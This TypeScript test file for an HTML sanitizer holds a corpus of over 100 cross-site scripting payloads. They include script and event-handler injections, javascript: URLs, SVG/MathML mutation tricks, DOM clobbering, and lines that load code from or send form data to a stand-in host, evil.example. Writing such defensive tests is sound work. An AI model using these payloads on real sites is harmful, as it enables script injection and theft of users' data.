import type { Element, Nodes } from 'hast';
import { htmlToDOM } from 'html-react-parser';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { isReservedId } from '../../contract/elementIds.ts';
import { contentElements } from '../../contract/htmlAllowList.ts';
import { sanitizeDocument, sanitizeFragment } from './sanitizeHtml.ts';

const sanitize = (html: string): string => sanitizeDocument(html).html;

const HOSTILE: string[] = [
  // Scripts, whole, broken and nested
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script><!--<script></script>--><img src=x onerror=alert(1)></script>',
  '<script\n>alert(1)</script\t>',
  '<script>alert(1)',
  '<p><script>document.body.innerHTML = "<img src=x onerror=alert(1)>"</script>after</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>',
  '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  // Event handlers
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR=alert(1)>',
  '<img src=`x` onerror=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<p onclick="alert(1)" onmouseover=alert(1)>text</p>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<a href="/x" onfocus=alert(1) autofocus tabindex=1>x</a>',
  '<body onload=alert(1)>x',
  '<h2 id="a" onpointerenter=alert(1)>x</h2>',
  '<td onclick=alert(1)>x',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio controls onloadstart=alert(1) src=/x.mp3></audio>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  // Addresses
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript\r:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="javascript&#0;:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="filesystem:https://evil.example/1">x</a>',
  '<a href="view-source:javascript:alert(1)">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a ping="https://evil.example" target=_blank href="/x">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
  '<img srcset="https://evil.example/x 2x" src="/x.png">',
  '<picture><source srcset="javascript:alert(1)"><img src="/x.png"></picture>',
  '<blockquote cite="javascript:alert(1)">x</blockquote>',
  '<q cite="javascript:alert(1)">x</q>',
  '<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>',
  // Foreign content and mutations
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<p><svg><desc></p><img src=x onerror=alert(1)></svg>',
  '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  '<select><iframe srcdoc="<script>alert(1)</script>"></select>',
  '<a id="x"><table><a href="javascript:alert(1)"><td>x</table>',
  // Frames and plug-ins
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example/youtube.com/embed/abcdefghijk"></iframe>',
  '<iframe src="https://youtube.com.evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com@evil.example/embed/abcdefghijk"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abc%22onload=alert(1)"></iframe>',
  '<iframe src="https://www.youtube.com/redirect?q=https://evil.example"></iframe>',
  '<iframe src="https://www.youtube.com/embed/abcdefghijk" srcdoc="<script>alert(1)</script>" onload=alert(1)>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"><param name=x><img src=x onerror=alert(1)></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x archive="https://evil.example/x.jar"></applet>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<portal src="https://evil.example"></portal>',
  // What changes the page around it
  '<style>*{background:url(https://evil.example)}</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<p class="modal" data-action="x" slot=y part=z>x</p>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<link rel=import href="https://evil.example">',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv=Set-Cookie content="x=1">',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src=x onerror=alert(1)>',
  '<ul><li><input type=checkbox onclick=alert(1) name=root form=x> x</ul>',
  '<isindex action="javascript:alert(1)">',
  '<template><img src=x onerror=alert(1)></template>',
  '<template shadowrootmode=open><script>alert(1)</script></template>',
  '<h1 id="root">x</h1><h2 id="page-data">x</h2><h3 id="Main">x</h3><h4 id="_R_1_">_x</h4>',
  '<img name=getElementById id=body src=/x.png><a name=cookie id=location href=/x>x</a>',
  '<dialog open onclose=alert(1)>x</dialog>',
  // Comments and declarations
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!doctype html><img src=x onerror=alert(1)>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '</ <img src=x onerror=alert(1)>',
  '<a href="/x" title="--><script>alert(1)</script>">x</a>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  // Encodings and loose ends
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '<img src=x onerror="alert(1)',
  '<a href="/x"><img src=x onerror=alert(1)',
  '<<img src=x onerror=alert(1)>>',
  '<p>\ud800<b>lone</b></p>',
  '<pre>\n\n<img src=x onerror=alert(1)></pre>',
];

const DEEP = ['div', 'b', 'ul><li', 'p><b><i', 'table><tr><td', 'blockquote', 'q', 'x'];

const parser = unified().use(rehypeParse, { fragment: true });

const elementsOf = (html: string): Element[] => {
  const elements: Element[] = [];
  const walk = (node: Nodes): void => {
    if (node.type === 'comment' || node.type === 'doctype') throw new Error('not content');
    if (node.type === 'element') elements.push(node);
    if ('children' in node) node.children.forEach(walk);
  };
  walk(parser.parse(html));
  return elements;
};

const LIVE_TAGS =
  /^(?:script|style|svg|math|form|button|select|textarea|object|embed|applet|base|meta|link|template|noscript|video|audio|source|picture|frame|frameset|portal|dialog|font|marquee)$/;
const SAFE_URL = /^(?:https?:\/\/|mailto:|tel:|(?![/\\]{2})[^:]*$|[/?#])/i;

const liveParts = (html: string): string[] =>
  elementsOf(html).flatMap(({ tagName, properties }) =>
    [
      LIVE_TAGS.test(tagName) && tagName,
      !contentElements.has(tagName) && tagName,
      tagName === 'input' && !properties.disabled && 'a live input',
      tagName === 'iframe' &&
        !/^https:\/\/www\.youtube-nocookie\.com\/embed\/[\w-]+$/.test(String(properties.src)) &&
        `a frame of ${String(properties.src)}`,
      ...Object.entries(properties).map(
        ([name, value]) =>
          (/^(?:on|style|srcDoc|srcSet|data|form|action|name|target|ping|cite|background|slot)/.test(
            name,
          ) ||
            (name === 'id' && (!/^h\d$/.test(tagName) || isReservedId(String(value)))) ||
            (['href', 'src'].includes(name) && !SAFE_URL.test(String(value)))) &&
          `${tagName}[${name}=${String(value)}]`,
      ),
    ].filter((part) => part !== false),
  );

it('has a corpus of hostile fragments worth its name', () => {
  expect(HOSTILE.length).toBeGreaterThan(100);
});

it.each(HOSTILE)('leaves nothing live of %j', (html) => {
  expect(liveParts(sanitize(html))).toEqual([]);
  expect(liveParts(sanitize(`<p>before</p>${html}<p>after</p>`))).toEqual([]);
  expect(liveParts(sanitizeFragment(html))).toEqual([]);
});

it.each(HOSTILE)('reads its own answer to %j as it wrote it', (html) => {
  const once = sanitize(html);
  expect(sanitize(once)).toBe(once);
});

it('still sees what is live in the fragments before they are cleaned', () => {
  const notSeen = HOSTILE.filter((html) => {
    try {
      return liveParts(html).length === 0;
    } catch {
      return false;
    }
  });
  // Those that are only dangerous to a careless cleaner, such as text that looks like tags.
  expect(notSeen.length).toBeLessThan(20);
});

interface Seen {
  name: string;
  children: (Seen | string)[];
}

/** Adjacent texts are one, whatever a parser makes of them. */
const joinTexts = (children: (Seen | string)[]): (Seen | string)[] =>
  children.reduce<(Seen | string)[]>((joined, child) => {
    const last = joined.at(-1);
    if (typeof child === 'string' && typeof last === 'string')
      joined[joined.length - 1] = last + child;
    else joined.push(child);
    return joined;
  }, []);

const seenByBrowsers = (nodes: Nodes[]): (Seen | string)[] =>
  joinTexts(
    nodes.map((node) => {
      if (node.type === 'text') return node.value;
      if (node.type !== 'element') throw new Error(`unexpected ${node.type}`);
      return { name: node.tagName, children: seenByBrowsers(node.children) };
    }),
  );

type PlainNode = ReturnType<typeof htmlToDOM>[number];

const seenByTheRenderer = (nodes: PlainNode[]): (Seen | string)[] =>
  joinTexts(
    nodes.map((node) => {
      if ('data' in node && node.type === 'text') return String(node.data);
      if (!('name' in node) || !('children' in node)) throw new Error(`unexpected ${node.type}`);
      return {
        name: String(node.name),
        children: seenByTheRenderer(node.children as PlainNode[]),
      };
    }),
  );

const MISNESTED = [
  '<b><i>x</b>y</i>',
  '<p>a<div>b</div>c</p>',
  '<table><tr><td>a<td>b<tr><td>c</table>',
  '<table>loose<tr><td>a</td></tr>text</table>',
  '<ul><li>a<li>b<ul><li>c</ul></ul>',
  '<a href=/a>one<a href=/b>two</a></a>',
  '<h2>one<h3>two</h3></h2>',
  '<p>a<table><tr><td>b</table>c',
  '<pre>\n\n\n  code</pre>',
  '<dl><dt>a<dd>b<dt>c<dd>d</dl>',
  '</p></div>stray',
  '<p><button><p>x</button></p>',
  '<h2><div><h3>x</h3></div></h2>',
  '<table><caption>a</caption><colgroup><col span=2></colgroup><tbody>\n<tr>\n<td>b</td>\n</tr>\n</tbody></table>',
];

it.each([...MISNESTED, ...HOSTILE])('gives every parser the same tree of %j', (html) => {
  const safe = sanitize(html);
  const { children } = parser.parse(safe);
  expect(seenByTheRenderer(htmlToDOM(safe))).toEqual(seenByBrowsers(children));
  expect(sanitize(safe)).toBe(safe);
});

const depthOf = (nodes: Nodes[]): number =>
  Math.max(0, ...nodes.map((node) => ('children' in node ? 1 + depthOf(node.children) : 0)));

it.each(DEEP)('keeps a hundred levels at most of 300 nested <%s>, and all text', (tags) => {
  const safe = sanitize(`${`<${tags}>`.repeat(300)}inside`);
  expect(safe).toContain('inside');
  expect(sanitize(safe)).toBe(safe);
  // And a paragraph around the text.
  expect(depthOf(parser.parse(safe).children)).toBeLessThanOrEqual(101);
});
